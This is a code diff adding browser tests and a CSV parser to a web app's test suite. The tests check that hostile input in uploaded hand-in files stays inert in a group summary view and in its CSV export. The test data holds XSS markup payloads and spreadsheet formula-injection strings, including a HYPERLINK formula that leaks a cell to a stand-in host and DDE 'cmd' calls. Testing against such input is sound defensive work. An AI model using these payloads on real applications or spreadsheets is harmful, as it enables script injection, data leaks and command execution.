@@ -220,3 +220,142 @@ for (const colorScheme of ['light', 'dark']) {
     await context.close();
   });
 }
+
+/** Parses RFC 4180 CSV (CRLF rows, quoted cells with doubled quotes); throws on a malformed quote. */
+function parseCsv(text) {
+  const rows = [];
+  let row = [];
+  let cell = '';
+  let i = 0;
+  let quoted = false;
+  while (i < text.length) {
+    const ch = text[i];
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
+      if (ch === '"') {
+        quoted = false;
+        i += 1;
+        if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
+        continue;
+      }
+      cell += ch;
+      i += 1;
+      continue;
+    }
+    if (ch === '"') {
+      if (cell !== '') throw new Error(`a quote inside an unquoted cell at ${i}`);
+      quoted = true;
+    } else if (ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i += 1;
+    } else if (ch === '\n' || ch === '\r') {
+      throw new Error(`a bare line break at ${i}`);
+    } else {
+      cell += ch;
+    }
+    i += 1;
+  }
+  if (quoted) throw new Error('an unclosed quote');
+  if (cell !== '' || row.length > 0) throw new Error('the last row has no CRLF');
+  return rows;
+}
+
+test('hostile text in hand-in files and their names stays inert in the group picture and never reaches the CSV', async () => {
+  const { page, problems, context } = await openWorkshop();
+  let dialogs = 0;
+  page.on('dialog', async (d) => { dialogs += 1; await d.dismiss(); });
+  const markup = ['<script>alert(1)</script>', '<img src=x onerror="alert(2)">', '<svg onload="alert(3)"></svg>', '<iframe srcdoc="<script>alert(4)</script>"></iframe>'];
+  const formulas = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', '\t=1+1'];
+  const payloads = [...markup, ...formulas];
+  const valid = await Promise.all(['p1', 'p2', 'p3', 'p4', 'p5'].map(async (name) => JSON.parse(await readFile(file(name), 'utf8'))));
+  // Five real participants, each file named by a payload (a slash cannot be in a file name) and
+  // carrying payloads wherever the format has room: unknown values, moves, subscales and fields.
+  const names = [
+    '<img src=x onerror=alert(5)>.crossroads-handin.json',
+    '<svg onload=alert(6)>.crossroads-handin.json',
+    '=HYPERLINK("http:\\\\example.invalid","x").crossroads-handin.json',
+    '+cmd, "quoted" -1+1.crossroads-handin.json',
+    '@SUM(A1) <b>bold<b>.crossroads-handin.json',
+  ];
+  const files = valid.map((doc, k) => ({
+    name: names[k],
+    mimeType: 'application/json',
+    buffer: Buffer.from(JSON.stringify({
+      ...doc,
+      values_top: [...doc.values_top.slice(0, 3), payloads[k], payloads[k + 5 < payloads.length ? k + 5 : 0]],
+      moves: [...doc.moves, payloads[(k + 1) % payloads.length]],
+      attitudes: { ...doc.attitudes, [payloads[(k + 2) % payloads.length]]: 3 },
+      note: payloads.join(' '),
+    })),
+  }));
+  // And files the reader refuses, whose error messages may quote what they found.
+  const refused = [
+    { name: '<script>alert(7)<script>.json', text: `{"format":"crossroads-handin","version":1,"handin_id":"h-a","${markup[1].replace(/"/g, '\\"')}":1,"${markup[1].replace(/"/g, '\\"')}":2}` },
+    { name: '-2+3.json', text: `{"format":"crossroads-handin","version":1,"handin_id":"${markup[0]}"}` },
+    { name: '@x.json', text: `{"format":"${formulas[0].replace(/"/g, '\\"')}","version":1}` },
+    { name: '=1+1.json', text: `${markup[2]}` },
+  ].map(({ name, text }) => ({ name, mimeType: 'application/json', buffer: Buffer.from(text) }));
+  await page.setInputFiles('[data-testid=group-files-input]', [...files, ...refused]);
+  await page.locator('[data-testid=group-picture]').waitFor();
+  assert.match(await page.locator('[data-testid=group-summary]').innerText(), /^5 participants from 9 files\s+4 files skipped/);
+  await page.locator('.group-files summary').click();
+
+  // Every file name is shown as the text it is.
+  const listed = await page.locator('[data-testid=group-file-list] [data-testid=group-file] .file-name').allInnerTexts();
+  assert.deepEqual([...listed].sort(), [...names, ...refused.map((f) => f.name)].sort());
+  const errors = await page.locator('[data-testid=group-errors] [data-testid=group-file]').allInnerTexts();
+  assert.equal(errors.length, 4);
+  assert.ok(errors.some((e) => e.includes(markup[1])), `the duplicate key is quoted as text: ${errors.join(' | ')}`);
+  // Only catalogued values and moves are counted: no payload became a row.
+  const mainText = await page.locator('[data-testid=group-picture]').innerText();
+  for (const p of payloads) assert.ok(!mainText.includes(p.trim()), `the group picture does not show ${p}`);
+  assert.equal(await page.locator('[data-testid=group-values] tbody tr').count(),
+    new Set(valid.flatMap((d) => d.values_top.slice(0, 3))).size, 'a row per catalogued value');
+  // Nothing was injected, nothing ran.
+  assert.equal(await page.locator('main script, main img, main iframe, main b, main svg[onload], [onerror], [onload], [srcdoc]').count(), 0);
+  assert.equal(dialogs, 0, 'no payload ran');
+
+  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=group-csv]').click()]);
+  const csv = await readFile(await download.path(), 'utf8');
+  const rows = parseCsv(csv);
+  assert.ok(rows.length > 10);
+  for (const [k, row] of rows.entries()) {
+    assert.equal(row.length, 11, `row ${k} has 11 cells: ${JSON.stringify(row)}`);
+    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `row ${k}: a cell a spreadsheet reads as a formula: ${JSON.stringify(cell)}`);
+  }
+  for (const p of [...payloads, ...names, ...refused.map((f) => f.name)]) assert.ok(!csv.includes(p.trim()), `the CSV does not carry ${p}`);
+  assert.ok(!/<|>/.test(csv), 'no markup in the CSV');
+  assert.deepEqual(await problems(), []);
+  await context.close();
+});
+
+test('the CSV quotes and guards its cells in every language, and reads back cell for cell', async () => {
+  const { page, problems, context } = await openWorkshop();
+  for (const lang of ['en', 'nl', 'fr']) {
+    await page.goto(`${app.url}?lang=${lang}#/workshop`);
+    await waitForApp(page);
+    await page.locator('[data-testid=group]').waitFor();
+    await page.setInputFiles('[data-testid=group-files-input]', ['p1', 'p2', 'p3', 'p4', 'p5'].map(file));
+    await page.locator('[data-testid=group-picture]').waitFor();
+    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=group-csv]').click()]);
+    const csv = await readFile(await download.path(), 'utf8');
+    const rows = parseCsv(csv);
+    assert.deepEqual(rows[0], ['section', 'key', 'label', 'participants', 'share', 'min', 'q1', 'median', 'q3', 'max', 'mean'], lang);
+    const shown = await page.locator('[data-testid=group-attitudes-table] tbody th').allInnerTexts();
+    assert.deepEqual(rows.filter((r) => r[0] === 'attitudes').map((r) => r[2]), shown, `${lang}: the labels read back as shown`);
+    for (const row of rows) {
+      assert.equal(row.length, 11, `${lang}: ${JSON.stringify(row)}`);
+      for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `${lang}: ${JSON.stringify(cell)}`);
+    }
+    await page.locator('[data-testid=group-clear]').click();
+    await page.locator('[data-testid=group-empty]').waitFor();
+  }
+  assert.deepEqual(await problems(), []);
+  await context.close();
+});
